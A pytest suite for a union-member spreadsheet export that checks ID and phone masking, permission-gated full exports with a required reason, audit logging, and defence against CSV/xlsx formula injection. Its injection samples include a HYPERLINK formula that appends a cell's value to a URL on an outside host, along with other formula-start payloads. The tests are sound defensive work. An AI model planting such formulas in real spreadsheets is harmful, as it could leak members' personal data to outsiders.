"""Member export: masked by default, full only with permission + reason, always audited once,
and no cell a spreadsheet would run as a formula (IMP-9)."""

import codecs
import csv
import datetime
import io
import re
import zipfile

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from ruhui.audit.models import AuditEvent
from ruhui.importing.columns import HEADERS, MEMBER_COLUMNS
from ruhui.importing.export import (
    export_members,
    member_export_rows,
    write_member_csv,
    write_member_xlsx,
)
from ruhui.members.models import Member
from ruhui.tabular.cells import DANGEROUS_PREFIXES, safe_cell
from tests.members.factories import join, make_id_number, make_phone

ID_RE = re.compile(r"\d{17}[\dX]")
PHONE_RE = re.compile(r"1[3-9]\d{9}")
INJECTIONS = [
    '=HYPERLINK("http://x.cn/?"&A1,"点我")',  # fits 姓名's 40 characters
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]
COL = {column.field: index for index, column in enumerate(MEMBER_COLUMNS)}


def read_xlsx(path, sheet=0) -> list[list]:
    workbook = CalamineWorkbook.from_path(str(path))
    if isinstance(sheet, int):
        return workbook.get_sheet_by_index(sheet).to_python()
    return workbook.get_sheet_by_name(sheet).to_python()


def read_csv(path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def is_safe(value) -> bool:
    return not (isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES))


def all_text(rows) -> str:
    return "\n".join("\t".join(str(v) for v in row) for row in rows)


@pytest.fixture
def members(world):
    admin = world.county_admin
    people = []
    for index in range(3):
        number, phone = make_id_number(), make_phone()
        member = join(
            admin,
            world.county_trade,
            id_number=number,
            phone=phone,
            name=f"张{'一二三'[index]}",
            employer_name="舞钢顺达物流有限公司",
            group="02",
            is_migrant_worker=True,
            education="本科",
            on=datetime.date(2024, 3, 1),
        )
        people.append((member, number, phone))
    return people


def scoped_members():
    return Member.objects.order_by("id")


# --- safe_cell ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_safe_cell_prefixes_every_dangerous_start(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "张伟",
        "",
        "1+1",
        "a=b",
        "'=already quoted",
        " =1",
        0,
        -1,
        3.5,
        -2.25,
        None,
        True,
        datetime.date(2019, 5, 1),
        datetime.datetime(2019, 5, 1, 8, 30),
    ],
)
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


@given(st.text())
def test_safe_cell_property_on_text(text):
    out = safe_cell(text)
    if text.startswith(DANGEROUS_PREFIXES):
        assert out == "'" + text
    else:
        assert out == text
    assert is_safe(out)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.dates(), st.datetimes()))
def test_safe_cell_never_alters_numbers_or_dates(value):
    assert safe_cell(value) == value


cell_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\ufffe\uffff"),
    max_size=12,
)
dangerous_text = st.builds(lambda p, rest: p + rest, st.sampled_from(DANGEROUS_PREFIXES), cell_text)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.lists(
            st.one_of(cell_text, dangerous_text),
            min_size=len(MEMBER_COLUMNS),
            max_size=len(MEMBER_COLUMNS),
        ),
        min_size=1,
        max_size=5,
    )
)
def test_no_written_cell_starts_a_formula(tmp_path, rows):
    """Generated rows (many starting with = + - @ TAB CR) written to xlsx and csv and read back:
    no text cell starts with a formula character unless it is the apostrophe-prefixed form."""
    xlsx, csv_path = tmp_path / "p.xlsx", tmp_path / "p.csv"
    write_member_xlsx(xlsx, rows)
    write_member_csv(csv_path, rows)
    for read in (read_xlsx(xlsx), read_csv(csv_path)):
        for cell in (cell for row in read for cell in row):
            assert is_safe(cell), repr(cell)
    back = read_csv(csv_path)[1:]
    for written, original in zip(back, rows, strict=True):
        assert written == [safe_cell(v) for v in original]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_members_named_like_formulas_are_neutralised(world, tmp_path, fmt):
    admin = world.county_admin
    for text in INJECTIONS:
        member = join(admin, world.county_trade)
        # Straight to the row: the join form would strip a leading TAB or CR.
        Member.objects.filter(pk=member.pk).update(name=text, employer_name=text)
    path = tmp_path / f"m.{fmt}"
    export_members(actor=admin, queryset=scoped_members(), path=path, fmt=fmt)
    rows = read_xlsx(path) if fmt == "xlsx" else read_csv(path)
    names = sorted(row[COL["name"]] for row in rows[1:])
    employers = sorted(row[COL["employer_name"]] for row in rows[1:])
    expected = sorted("'" + text for text in INJECTIONS)
    if fmt == "xlsx":  # xlsx keeps \r, but some readers normalise it; compare loosely there
        names = [n.replace("\r\n", "\r") for n in names]
        employers = [e.replace("\r\n", "\r") for e in employers]
    assert names == expected
    assert employers == expected
    assert all(is_safe(cell) for row in rows for cell in row)


# --- content ---------------------------------------------------------------------------------


def test_xlsx_export_columns_labels_and_types(world, members, tmp_path):
    path = tmp_path / "m.xlsx"
    count = export_members(actor=world.county_admin, queryset=scoped_members(), path=path)
    assert count == 3
    rows = read_xlsx(path)
    assert rows[0] == HEADERS
    assert len(rows) == 4
    first, number, phone = members[0]
    row = rows[1]
    assert row[COL["name"]] == "张一"
    assert row[COL["id_type"]] == "身份证"
    assert row[COL["id_number"]] == number[:6] + "********" + number[14:]
    assert row[COL["phone"]] == phone[:3] + "****" + phone[7:]
    assert row[COL["sex"]] == "男"
    assert row[COL["ethnicity"]] == "汉族"
    assert row[COL["education"]] == "大学本科教育"
    assert row[COL["group"]] == "快递员"
    assert row[COL["is_migrant_worker"]] == "是"
    assert row[COL["new_employment_form"]] == "否"
    assert row[COL["union"]] == "舞钢快递行业工会"
    assert row[COL["union_code"]] == "WG-KD"
    assert row[COL["member_number"]] == first.member_number
    assert row[COL["status"]] == "在籍"
    assert row[COL["joined_on"]] == datetime.date(2024, 3, 1)
    assert row[COL["birth_date"]] == first.birth_date
    assert row[COL["provincial_entered_on"]] == ""
    assert read_xlsx(path)[0][0] == "姓名"
    assert CalamineWorkbook.from_path(str(path)).sheet_names == ["会员信息"]


def test_xlsx_text_columns_are_text_formatted(world, members, tmp_path):
    path = tmp_path / "m.xlsx"
    export_members(actor=world.county_admin, queryset=scoped_members(), path=path)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S).group(1)
    num_fmt = [int(m) for m in re.findall(r'<xf numFmtId="(\d+)"', xfs)]
    # Every ID-number cell is a string cell whose style has the text format (49 = "@").
    id_letter = chr(ord("A") + COL["id_number"])
    cells = re.findall(rf'<c r="{id_letter}(\d+)" s="(\d+)" t="(\w+)"', sheet)
    assert len(cells) == 4
    for _row, style, kind in cells[1:]:
        assert kind in ("s", "inlineStr")  # constant_memory writes inline strings
        assert num_fmt[int(style)] == 49
    assert '<autoFilter ref="A1:' in sheet
    assert 'state="frozen"' in sheet


def test_masked_export_holds_no_full_id_or_phone(world, members, tmp_path):
    for fmt in ("xlsx", "csv"):
        path = tmp_path / f"m.{fmt}"
        export_members(actor=world.county_admin, queryset=scoped_members(), path=path, fmt=fmt)
        text = all_text(read_xlsx(path) if fmt == "xlsx" else read_csv(path))
        assert not ID_RE.search(text)
        assert not PHONE_RE.search(text)
        for _member, number, phone in members:
            assert number not in text and phone not in text
            assert number[:6] + "********" + number[14:] in text
        # Nor in the raw file (shared strings included).
        raw = path.read_bytes()
        if fmt == "xlsx":
            with zipfile.ZipFile(path) as archive:
                raw = b"".join(archive.read(name) for name in archive.namelist())
        assert not ID_RE.search(raw.decode("utf-8", "ignore"))


def test_masked_export_writes_one_audit_event(world, members, tmp_path):
    export_members(
        actor=world.county_viewer, queryset=scoped_members(), path=tmp_path / "m.csv", fmt="csv"
    )
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.actor == world.county_viewer
    assert event.org_path == world.county.path
    assert event.result == "ok"
    assert event.changes["导出行数"] == [None, 3]
    assert event.changes["格式"] == [None, "csv"]
    assert event.changes["完整证件号码和手机号码"] == [None, "否"]


def test_full_export_needs_the_permission(world, members, tmp_path):
    path = tmp_path / "m.xlsx"
    with pytest.raises(PermissionDenied):
        export_members(
            actor=world.county_viewer,
            queryset=scoped_members(),
            path=path,
            full=True,
            reason="报送省总工会实名制数据库",
        )
    assert not path.exists()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()


@pytest.mark.parametrize("reason", ["", "   ", "报送", "报送省"])
def test_full_export_needs_a_reason_of_four_characters(world, members, tmp_path, reason):
    path = tmp_path / "m.xlsx"
    with pytest.raises(ValidationError) as error:
        export_members(
            actor=world.county_admin, queryset=scoped_members(), path=path, full=True, reason=reason
        )
    assert "导出事由" in str(error.value)
    assert not path.exists()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_full_export_decrypts_and_is_audited_once(world, members, tmp_path, fmt):
    path = tmp_path / f"m.{fmt}"
    count = export_members(
        actor=world.county_admin,
        queryset=scoped_members(),
        path=path,
        fmt=fmt,
        full=True,
        reason="  报送省总工会实名制数据库  ",
    )
    assert count == 3
    rows = read_xlsx(path) if fmt == "xlsx" else read_csv(path)
    ids = [row[COL["id_number"]] for row in rows[1:]]
    phones = [row[COL["phone"]] for row in rows[1:]]
    assert ids == [number for _m, number, _p in members]
    assert phones == [phone for _m, _n, phone in members]
    events = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT)
    assert events.count() == 1
    event = events.get()
    assert event.changes["完整证件号码和手机号码"] == [None, "是"]
    assert event.changes["导出事由"] == [None, "报送省总工会实名制数据库"]
    assert event.changes["导出行数"] == [None, 3]
    assert event.org_path == world.county.path


def test_full_export_leaves_a_member_without_phone_blank(world, tmp_path):
    join(world.county_admin, world.county_trade, phone="")
    path = tmp_path / "m.csv"
    export_members(
        actor=world.county_admin,
        queryset=scoped_members(),
        path=path,
        fmt="csv",
        full=True,
        reason="报送省总工会",
    )
    assert read_csv(path)[1][COL["phone"]] == ""


def test_failed_export_removes_the_file_and_audits_the_failure(world, members, tmp_path):
    Member.objects.filter(pk=members[1][0].pk).update(id_number_encrypted="broken-token")
    path = tmp_path / "m.xlsx"
    with pytest.raises(Exception, match="密文"):
        export_members(
            actor=world.county_admin,
            queryset=scoped_members(),
            path=path,
            full=True,
            reason="报送省总工会",
        )
    assert not path.exists()
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.result == "failed"


def test_csv_has_a_bom_and_reads_as_utf8(world, members, tmp_path):
    path = tmp_path / "m.csv"
    export_members(actor=world.county_admin, queryset=scoped_members(), path=path, fmt="csv")
    raw = path.read_bytes()
    assert raw[:3] == codecs.BOM_UTF8
    text = raw[3:].decode("utf-8")
    assert text.splitlines()[0] == ",".join(HEADERS)
    rows = read_csv(path)
    assert rows[1][COL["joined_on"]] == "2024-03-01"
    assert rows[1][COL["name"]] == "张一"
    assert len(rows) == 4


def test_unknown_format_is_refused(world, tmp_path):
    with pytest.raises(ValueError, match="xlsx"):
        export_members(
            actor=world.county_admin, queryset=scoped_members(), path=tmp_path / "m", fmt="xls"
        )


def test_export_rows_follow_member_columns_and_query_once(world, members):
    with CaptureQueriesContext(connection) as few:
        rows = list(member_export_rows(scoped_members(), full=False))
    for _ in range(4):
        join(world.county_admin, world.county_enterprise)
    with CaptureQueriesContext(connection) as more:
        more_rows = list(member_export_rows(scoped_members(), full=False))
    assert len(rows) == 3 and len(more_rows) == 7
    assert len(more.captured_queries) == len(few.captured_queries)
    assert all(len(row) == len(MEMBER_COLUMNS) for row in more_rows)
    assert {row[COL["union"]] for row in more_rows} == {
        "舞钢快递行业工会",
        "舞钢顺达物流有限公司工会",
    }


def test_empty_export_still_has_the_header(world, tmp_path):
    path = tmp_path / "m.xlsx"
    assert export_members(actor=world.county_admin, queryset=Member.objects.none(), path=path) == 0
    assert read_xlsx(path) == [HEADERS]
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).count() == 1


def test_long_exports_continue_on_a_new_sheet(tmp_path):
    path = tmp_path / "big.xlsx"
    rows = [[f"人{i}"] + [""] * (len(MEMBER_COLUMNS) - 1) for i in range(7)]
    assert write_member_xlsx(path, rows, max_sheet_rows=3) == 7
    workbook = CalamineWorkbook.from_path(str(path))
    assert workbook.sheet_names == ["会员信息", "会员信息(2)", "会员信息(3)"]
    names = []
    for name in workbook.sheet_names:
        sheet = workbook.get_sheet_by_name(name).to_python()
        assert sheet[0] == HEADERS
        names += [row[0] for row in sheet[1:]]
    assert names == [f"人{i}" for i in range(7)]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_reads_back_as_an_import(world, members, tmp_path, fmt):
    """Contract with the reader: our own export passes the upload checks and maps every column."""
    from ruhui.importing.headers import MEMBER_HEADER_ALIASES
    from ruhui.tabular.files import check_upload
    from ruhui.tabular.readers import read_table

    path = tmp_path / f"m.{fmt}"
    export_members(actor=world.county_admin, queryset=scoped_members(), path=path, fmt=fmt)
    kind = check_upload(path, f"会员名册.{fmt}")
    assert kind == fmt
    table = read_table(path, kind, header_aliases=MEMBER_HEADER_ALIASES)
    assert table.fields == [column.field for column in MEMBER_COLUMNS]
    rows = list(table.rows)
    assert [table.cells_by_field(row)["name"] for row in rows] == ["张一", "张二", "张三"]
